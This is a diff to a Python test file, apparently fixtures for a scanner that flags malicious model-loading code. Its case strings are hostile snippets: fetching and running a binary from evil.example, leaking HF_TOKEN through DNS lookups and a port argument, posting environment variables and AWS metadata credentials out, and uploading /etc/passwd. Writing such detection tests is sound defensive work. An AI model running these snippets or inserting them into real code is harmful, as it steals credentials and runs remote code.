@@ -100,6 +100,7 @@ CASES = {
     "url-retrieve-run": "import urllib.request, os\nurllib.request.urlretrieve('http://evil.example/x', '/tmp/x')\nos.chmod('/tmp/x', 0o755)\nos.system('/tmp/x')\nclass M: pass",
     "dns-exfil": "import socket, os\nsocket.gethostbyname(os.environ['HF_TOKEN'] + '.evil.example')\nclass M: pass",
     "dns-name": "import socket\nsocket.gethostbyname(socket.gethostname() + '.evil.example')\nclass M: pass",
+    "dns-port": "import socket, os\nsocket.getaddrinfo(socket.gethostname(), os.environ['HF_TOKEN'])\nclass M: pass",
     "env-file": "import os, requests\nd = open('/proc/self/environ').read()\nrequests.post('http://evil.example', data=d)\nclass M: pass",
     "aws-metadata": "import requests\nt = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/').text\nrequests.post('http://evil.example', data=t)\nclass M: pass",
     "hf-upload": "from huggingface_hub import HfApi, get_token\nHfApi(token=get_token()).upload_file(path_or_fileobj='/etc/passwd', path_in_repo='x', repo_id='evil/x')\nclass M: pass",
